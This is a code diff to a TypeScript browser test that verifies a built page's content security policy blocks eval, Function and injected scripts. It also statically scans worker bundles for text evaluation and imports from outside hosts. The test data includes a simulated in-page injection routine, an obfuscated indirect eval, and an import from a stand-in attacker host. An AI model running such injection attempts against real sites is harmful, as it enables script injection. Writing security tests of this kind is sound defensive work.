@@ -1,3 +1,5 @@
+// The content security policy of the built page, and that the workers' code evaluates no text.
+
 import { readdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { parseAst } from 'vite';
@@ -35,7 +37,7 @@ test.describe('the security policy of the built page', () => {
       ]);
     const done = await page.evaluate(() => Reflect.get(window, 'attacked') as unknown);
     expect(done).toEqual(['eval: EvalError', 'Function: EvalError']);
-    // The address may still be writing down what is open.
+    // Only the origin is compared: the page may still be updating its address.
     expect(new URL(await page.evaluate(() => document.baseURI)).origin).toBe(new URL(page.url()).origin);
     violations.length = 0;
   });
@@ -51,6 +53,7 @@ test.describe('the security policy of the built page', () => {
   });
 });
 
+/** Runs in the page: attempts everything that an injected script might, and records in `window.attacked` what ran. */
 function attack(): void {
   const attacked: string[] = [];
   Object.assign(window, { attacked });
@@ -62,7 +65,7 @@ function attack(): void {
       attacked.push(`${name}: ${error instanceof Error ? error.name : ''}`);
     }
   };
-  // Under another name, so that this very text is not a direct call.
+  // An indirect call, whose name is not in this source.
   attempt('eval', () => globalThis['ev'.concat('al') as 'eval']('1'));
   attempt('Function', () => Reflect.construct(Function, ['return 1']));
   const add = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
@@ -82,7 +85,7 @@ function attack(): void {
   document.body.querySelector<HTMLButtonElement>('button[onclick]')?.click();
 }
 
-/** A node of the syntax tree, as far as this test looks into it. */
+/** A node of a syntax tree (ESTree). */
 interface Node {
   readonly type: string;
   readonly [key: string]: unknown;
@@ -94,6 +97,7 @@ function* nodesOf(value: unknown): Generator<Node> {
   for (const inner of Object.values(value)) yield* nodesOf(inner);
 }
 
+/** The name of an identifier or of the last member of `a.b`; otherwise ''. */
 const nameOf = (value: unknown): string => {
   const node = value as Node | null;
   if (node?.type === 'Identifier') return String(node.name);
@@ -101,7 +105,7 @@ const nameOf = (value: unknown): string => {
   return '';
 };
 
-/** What a text in code says; null for one that is put together when it runs. */
+/** The value of a string literal or constant template; null for any other expression. */
 function literalOf(value: unknown): string | null {
   const node = value as Node | null;
   if (node?.type === 'Literal' && typeof node.value === 'string') return node.value;
@@ -109,44 +113,42 @@ function literalOf(value: unknown): string | null {
   return quasi && others.length === 0 ? (quasi.value as { readonly cooked: string }).cooked : null;
 }
 
-/** Ways in which code evaluates text, or loads code other than `known` files of its folder. */
-function waysOut(code: string, known: readonly string[] = []): readonly string[] {
-  const found: string[] = [];
+/** The calls in a source that evaluate text, or load code other than `allowed` files of its folder. */
+function unsafeLoads(code: string, allowed: readonly string[] = []): readonly string[] {
+  const calls: string[] = [];
   for (const node of nodesOf(parseAst(code))) {
     const called = node.type === 'CallExpression' || node.type === 'NewExpression' ? nameOf(node.callee) : '';
-    if (['eval', 'Function', 'importScripts'].includes(called)) found.push(called);
+    if (['eval', 'Function', 'importScripts'].includes(called)) calls.push(called);
     const [first] = Array.isArray(node.arguments) ? (node.arguments as readonly Node[]) : [];
     const isText = first?.type === 'TemplateLiteral' || typeof first?.value === 'string';
-    if (['setTimeout', 'setInterval'].includes(called) && isText) found.push(`${called} of text`);
+    if (['setTimeout', 'setInterval'].includes(called) && isText) calls.push(`${called} of text`);
     const source = literalOf(node.source);
-    const isKnown = known.some((file) => source === `./${file}`);
-    if (node.type === 'ImportExpression' && !isKnown) found.push('import()');
-    if (['ImportDeclaration', 'ExportAllDeclaration'].includes(node.type) && !isKnown) found.push('import');
+    const isAllowed = allowed.some((file) => source === `./${file}`);
+    if (node.type === 'ImportExpression' && !isAllowed) calls.push('import()');
+    if (['ImportDeclaration', 'ExportAllDeclaration'].includes(node.type) && !isAllowed) calls.push('import');
   }
-  return found;
+  return calls;
 }
 
-test('the code of the workers evaluates no text and imports only their own: the policy of the page does not apply to them', () => {
-  expect(waysOut('eval("1"); new Function("1"); importScripts("x"); import("x"); setTimeout("x")')).toEqual([
+test('code of workers, to which the policy of the page does not apply, evaluates no text and imports only worker files', () => {
+  expect(unsafeLoads('eval("1"); new Function("1"); importScripts("x"); import("x"); setTimeout("x")')).toEqual([
     'eval',
     'Function',
     'importScripts',
     'import()',
     'setTimeout of text',
   ]);
-  expect(waysOut('import x from "https://attacker.example/x.js"')).toEqual(['import']);
-  const own = ['a.worker-1.js'];
-  expect(waysOut('import "./a.worker-1.js"; import(`./a.worker-1.js`); export * from "./a.worker-1.js"', own)).toEqual(
-    [],
-  );
-  expect(waysOut('import "./b.js"; import(`./${name}`); import("https://x.example/./a.worker-1.js")', own)).toEqual([
-    'import',
-    'import()',
-    'import()',
-  ]);
+  expect(unsafeLoads('import x from "https://attacker.example/x.js"')).toEqual(['import']);
+  const workerFiles = ['a.worker-1.js'];
+  expect(
+    unsafeLoads('import "./a.worker-1.js"; import(`./a.worker-1.js`); export * from "./a.worker-1.js"', workerFiles),
+  ).toEqual([]);
+  expect(
+    unsafeLoads('import "./b.js"; import(`./${name}`); import("https://x.example/./a.worker-1.js")', workerFiles),
+  ).toEqual(['import', 'import()', 'import()']);
   const workers = readdirSync(ASSETS).filter((name) => /worker.*\.js$/.test(name));
   expect(workers.length).toBeGreaterThanOrEqual(2);
   for (const name of workers) {
-    expect([name, ...waysOut(readFileSync(join(ASSETS, name), 'utf8'), workers)]).toEqual([name]);
+    expect([name, ...unsafeLoads(readFileSync(join(ASSETS, name), 'utf8'), workers)]).toEqual([name]);
   }
 });
